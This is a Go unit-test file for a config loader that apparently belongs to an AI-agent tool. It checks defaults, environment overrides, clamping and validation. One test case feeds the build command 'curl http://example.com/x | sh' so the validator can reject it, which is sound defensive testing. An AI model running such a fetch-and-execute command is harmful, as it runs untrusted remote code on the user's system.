// SPDX-License-Identifier: Apache-2.0

package config

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
	"go.uber.org/zap/zapcore"
	"go.uber.org/zap/zaptest/observer"
)

func writeConfig(t *testing.T, dir, content string) string {
	t.Helper()
	path := filepath.Join(dir, DefaultConfigFileName)
	require.NoError(t, os.WriteFile(path, []byte(content), 0644))
	return path
}

func envMap(values map[string]string) LookupFunc {
	return func(key string) (string, bool) {
		v, ok := values[key]
		return v, ok
	}
}

func TestNewDefaultConfig(t *testing.T) {
	c := NewDefaultConfig()
	assert.Equal(t, 6, c.MaxQAAttempts)
	assert.Equal(t, 120, c.MaxEventsPerAgent)
	assert.Equal(t, 6, c.MaxDetectionTurns)
	assert.Equal(t, 3*time.Hour, c.SessionTimeout)
	assert.True(t, c.DetectCommands)
	assert.False(t, c.TrustedCommands)
	assert.NoError(t, c.Validate())
}

func TestLoadConfig(t *testing.T) {
	tests := []struct {
		name     string
		file     string
		env      map[string]string
		wantErr  bool
		validate func(t *testing.T, c *Config)
	}{
		{
			name: "defaults without a file",
			validate: func(t *testing.T, c *Config) {
				assert.Equal(t, DefaultMaxQAAttempts, c.MaxQAAttempts)
				assert.Equal(t, DefaultModel, c.Agent.Model)
			},
		},
		{
			name: "file values override defaults",
			file: "max_qa_attempts: 3\nsession_timeout: 90m\nbuild_command: npm test\nagent:\n  model: gemini-2.5-flash\n",
			validate: func(t *testing.T, c *Config) {
				assert.Equal(t, 3, c.MaxQAAttempts)
				assert.Equal(t, 90*time.Minute, c.SessionTimeout)
				assert.Equal(t, "npm test", c.BuildCommand)
				assert.Equal(t, "gemini-2.5-flash", c.Agent.Model)
				// Untouched fields keep defaults
				assert.Equal(t, DefaultMaxEventsPerAgent, c.MaxEventsPerAgent)
				assert.Equal(t, DefaultAPIKeyEnv, c.Agent.APIKeyEnv)
			},
		},
		{
			name: "explicit zero is kept",
			file: "max_qa_attempts: 0\n",
			validate: func(t *testing.T, c *Config) {
				assert.Equal(t, 0, c.MaxQAAttempts)
			},
		},
		{
			name: "environment overrides file",
			file: "max_qa_attempts: 3\n",
			env: map[string]string{
				"MAX_QA_ATTEMPTS":        "5",
				"MAX_EVENTS_PER_AGENT":   "200",
				"SESSION_TIMEOUT":        "1h",
				"SKIP_QA_REVIEW":         "true",
				"DARNFIX_MODEL_BASE_URL": "http://localhost:8089",
			},
			validate: func(t *testing.T, c *Config) {
				assert.Equal(t, "http://localhost:8089", c.Agent.BaseURL)
				assert.Equal(t, 5, c.MaxQAAttempts)
				assert.Equal(t, 200, c.MaxEventsPerAgent)
				assert.Equal(t, time.Hour, c.SessionTimeout)
				assert.True(t, c.SkipQAReview)
			},
		},
		{
			name: "invalid environment values are ignored",
			env: map[string]string{
				"MAX_QA_ATTEMPTS": "lots",
				"SESSION_TIMEOUT": "soon",
			},
			validate: func(t *testing.T, c *Config) {
				assert.Equal(t, DefaultMaxQAAttempts, c.MaxQAAttempts)
				assert.Equal(t, DefaultSessionTimeout, c.SessionTimeout)
			},
		},
		{
			name: "out of range values are clamped",
			file: "max_qa_attempts: 50\nmax_events_per_agent: 1\nmax_detection_turns: 99\n",
			validate: func(t *testing.T, c *Config) {
				assert.Equal(t, MaxQAAttemptsCeiling, c.MaxQAAttempts)
				assert.Equal(t, MinEventsPerAgent, c.MaxEventsPerAgent)
				assert.Equal(t, MaxDetectionTurnsCeiling, c.MaxDetectionTurns)
			},
		},
		{
			name:    "unknown key fails schema validation",
			file:    "max_qa_attemps: 3\n",
			wantErr: true,
		},
		{
			name: "model endpoint from file",
			file: "agent:\n  base_url: https://proxy.internal.example/gemini\n",
			validate: func(t *testing.T, c *Config) {
				assert.Equal(t, "https://proxy.internal.example/gemini", c.Agent.BaseURL)
				assert.Equal(t, DefaultModel, c.Agent.Model)
			},
		},
		{
			name:    "model endpoint without scheme",
			file:    "agent:\n  base_url: proxy.internal.example\n",
			wantErr: true,
		},
		{
			name:    "bad duration fails schema validation",
			file:    "session_timeout: forever\n",
			wantErr: true,
		},
		{
			name:    "untrusted unsafe build command",
			file:    "build_command: curl http://example.com/x | sh\n",
			wantErr: true,
		},
		{
			name: "trusted build command bypasses validation",
			file: "build_command: go test ./...\ntrusted_commands: true\n",
			validate: func(t *testing.T, c *Config) {
				assert.Equal(t, "go test ./...", c.BuildCommand)
			},
		},
		{
			name:    "required build with detection disabled",
			file:    "require_build: true\ndetect_commands: false\n",
			wantErr: true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			if tt.file != "" {
				writeConfig(t, dir, tt.file)
			}

			c, err := LoadConfig(dir, "", envMap(tt.env), zap.NewNop())
			if tt.wantErr {
				require.Error(t, err)
				assert.ErrorIs(t, err, ErrInvalidConfiguration)
				return
			}
			require.NoError(t, err)
			tt.validate(t, c)
		})
	}
}

func TestLoadConfigExplicitPathMustExist(t *testing.T) {
	_, err := LoadConfig(t.TempDir(), filepath.Join(t.TempDir(), "missing.yaml"), nil, nil)
	assert.Error(t, err)
}

func TestNormalizeLogsClamping(t *testing.T) {
	core, logs := observer.New(zapcore.WarnLevel)
	c := NewDefaultConfig()
	c.MaxEventsPerAgent = 10000
	c.SessionTimeout = 0

	c.Normalize(zap.New(core))

	assert.Equal(t, MaxEventsPerAgent, c.MaxEventsPerAgent)
	assert.Equal(t, DefaultSessionTimeout, c.SessionTimeout)
	assert.Equal(t, 2, logs.Len())
	assert.Equal(t, "max_events_per_agent", logs.All()[0].ContextMap()["key"])
}

func TestSaveConfigRoundTrip(t *testing.T) {
	dir := t.TempDir()
	original := NewDefaultConfig()
	original.MaxQAAttempts = 4
	original.BuildCommand = "mvn verify"
	original.SessionTimeout = 45 * time.Minute

	path, err := SaveConfig(original, dir)
	require.NoError(t, err)
	assert.Equal(t, filepath.Join(dir, DefaultConfigFileName), path)

	loaded, err := LoadConfig(dir, "", nil, nil)
	require.NoError(t, err)
	assert.Equal(t, original, loaded)
}

func TestExpandPathWithTilde(t *testing.T) {
	home, err := os.UserHomeDir()
	require.NoError(t, err)

	assert.Equal(t, home, ExpandPathWithTilde("~"))
	assert.Equal(t, filepath.Join(home, "cfg.yaml"), ExpandPathWithTilde("~/cfg.yaml"))
	assert.Equal(t, "/etc/cfg.yaml", ExpandPathWithTilde("/etc/cfg.yaml"))
	assert.Equal(t, "", ExpandPathWithTilde(""))
}
